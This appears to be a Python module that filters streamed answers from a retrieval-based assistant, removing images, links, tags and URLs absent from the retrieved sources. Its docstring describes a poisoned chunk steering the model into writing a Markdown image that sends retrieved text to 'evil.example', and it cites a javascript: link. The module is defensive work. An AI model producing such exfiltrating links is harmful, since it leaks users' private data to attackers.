"""Answers free of remote images and links the sources did not contain.

A frontend that renders an answer as Markdown fetches its images at once: a model steered
by a poisoned chunk could write ``![x](https://evil.example/?q=<retrieved text>)`` and
leak what it read. So every link target, image, raw HTML tag and bare URL in an answer is
kept only when that exact URL appears in the retrieved sources; otherwise

- an image becomes its alt text, a link its text (``[1](…)`` stays the citation ``[1]``),
- an HTML tag is dropped, a bare URL becomes ``[link removed]``.

:class:`AnswerSanitizer` works incrementally, for streamed answers: :meth:`feed` returns
the text that can no longer change, holding back only from the start of a construct
still open at the end of the text received (an unclosed ``[``, ``![``, ``<``, or a word
that is or may become a URL), so deltas are forwarded at once otherwise. The pieces it
returns concatenate to exactly :func:`sanitize` of the whole answer.
"""

from __future__ import annotations

import re
from collections.abc import Iterable

__all__ = ["LINK_REMOVED", "AnswerSanitizer", "sanitize", "urls_in"]

LINK_REMOVED = "[link removed]"
_TEXT_MAX = 1000  # longest link text / alt text treated as one
_TARGET_MAX = 2048  # longest link target or tag
# A target may hold balanced parentheses one level deep, as Markdown allows:
# [x](javascript:alert(1)) is a link.
_TARGET = (
    r"\(\s*<?((?:[^()\s<>]|\([^()\s<>]*\))"
    + f"{{0,{_TARGET_MAX}}}"
    + r")>?(?:\s+\"[^\"\n]{0,200}\")?\s*\)"
)
_LABEL = r"\[([^\[\]\n]" + f"{{0,{_TEXT_MAX}}}" + r")\]"
_IMAGE = re.compile("!" + _LABEL + _TARGET)
_LINK = re.compile(_LABEL + _TARGET)
_TAG = re.compile(r"<(/?[A-Za-z!][^<>]" + f"{{0,{_TARGET_MAX}}}" + ")>")
# No look-behind or word boundary: a match must not depend on text before it, which a
# streamed answer may already have sent (so pieces sanitize exactly like the whole).
# What ends a URL: white space, brackets, quotes, CJK punctuation.
_URL_CHAR = "[^\\s<>()\\[\\]\"'`。，、；：！？（）「」『』【】]"
_URL = re.compile(
    r"(?:(?:https?|ftp)://|www\.|//(?=[\w-]+\.[\w.-]+)|(?:javascript|vbscript):"
    r"|data:(?=[\w.+-]+/[\w.+-]+[;,]))" + _URL_CHAR + "+",
    re.IGNORECASE,
)
_URL_STARTS = ("http://", "https://", "ftp://", "www.", "//", "javascript:", "vbscript:", "data:")
_CITATION = re.compile(r"\s*\d+(?:\s*[,;–-]\s*\d+)*\s*")
_TRAILING = ".,;:!?"


def urls_in(texts: Iterable[str]) -> frozenset[str]:
    """Every URL written in ``texts`` (trailing punctuation dropped)."""
    return frozenset(m.group(0).rstrip(_TRAILING) for t in texts for m in _URL.finditer(t))


def _allowed(url: str, allowed: frozenset[str]) -> bool:
    return bool(url) and url.rstrip(_TRAILING) in allowed


def sanitize(text: str, *, allowed: frozenset[str]) -> str:
    """``text`` with images, links, tags and URLs not in ``allowed`` neutralised."""

    def image(m: re.Match[str]) -> str:
        return m.group(0) if _allowed(m.group(2), allowed) else m.group(1)

    def link(m: re.Match[str]) -> str:
        if _allowed(m.group(2), allowed):
            return m.group(0)
        label = m.group(1)
        return f"[{label}]" if _CITATION.fullmatch(label) else label

    def tag(m: re.Match[str]) -> str:
        inner = m.group(1)
        return m.group(0) if _allowed(inner, allowed) else ""

    def url(m: re.Match[str]) -> str:
        return m.group(0) if _allowed(m.group(0), allowed) else LINK_REMOVED

    text = _IMAGE.sub(image, text)
    text = _LINK.sub(link, text)
    text = _TAG.sub(tag, text)
    return _URL.sub(url, text)


def _open_bracket(text: str, start: int) -> bool:
    """Whether ``[`` at ``start`` may still become a link whose end is not in ``text``."""
    close = start + 1
    limit = min(len(text), start + 1 + _TEXT_MAX + 1)
    while close < limit and text[close] not in "[]\n":
        close += 1
    if close >= len(text):
        return close - start <= _TEXT_MAX + 1
    if text[close] != "]":
        return False
    after = close + 1
    if after >= len(text):
        return True  # "[1]" at the very end: the next character decides
    if text[after] != "(":
        return False
    depth = 0
    for index in range(after, min(len(text), after + _TARGET_MAX + 220)):
        depth += {"(": 1, ")": -1}.get(text[index], 0)
        if depth == 0:
            return False  # closed: complete, whatever it turns out to be
    return len(text) - after < _TARGET_MAX + 220


def _open_tag(text: str, start: int) -> bool:
    after = start + 1
    if after >= len(text):
        return True
    if not (text[after].isascii() and (text[after].isalpha() or text[after] in "/!")):
        return False
    end = text.find(">", after, after + _TARGET_MAX + 1)
    return end < 0 and len(text) - after <= _TARGET_MAX and "<" not in text[after:]


def _open_url(text: str) -> int | None:
    """Start of the trailing word's first part that is, or may still become, a URL (a URL
    may begin inside a word, and its end is not known until a delimiter arrives)."""
    match = re.search(_URL_CHAR + "*$", text)
    assert match is not None
    word = match.group(0).lower()
    for offset in range(len(word)):
        rest = word[offset:]
        if any(s.startswith(rest) or s in rest for s in _URL_STARTS):
            return match.start() + offset
    return None


def _hold_from(text: str) -> int:
    """Where the part that may still change begins (``len(text)``: nothing held)."""
    hold = len(text)
    url = _open_url(text)
    if url is not None:
        hold = url
    for index in range(len(text) - 1, max(-1, len(text) - _TARGET_MAX - _TEXT_MAX - 300), -1):
        char = text[index]
        if char == "[" and _open_bracket(text, index):
            start = index - 1 if index and text[index - 1] == "!" else index
            hold = min(hold, start)
        elif char == "<" and _open_tag(text, index):
            hold = min(hold, index)
    if text.endswith("!"):
        hold = min(hold, len(text) - 1)
    return hold


class AnswerSanitizer:
    """Incremental :func:`sanitize` (see the module docstring)."""

    def __init__(self, *, allowed: frozenset[str]) -> None:
        self.allowed = allowed
        self._pending = ""

    def feed(self, delta: str) -> str:
        """The sanitized text that ``delta`` completes ("" while a construct is open)."""
        self._pending += delta
        cut = _hold_from(self._pending)
        ready, self._pending = self._pending[:cut], self._pending[cut:]
        return sanitize(ready, allowed=self.allowed) if ready else ""

    def finish(self) -> str:
        """Everything still held, sanitized (the answer is complete)."""
        rest, self._pending = self._pending, ""
        return sanitize(rest, allowed=self.allowed) if rest else ""
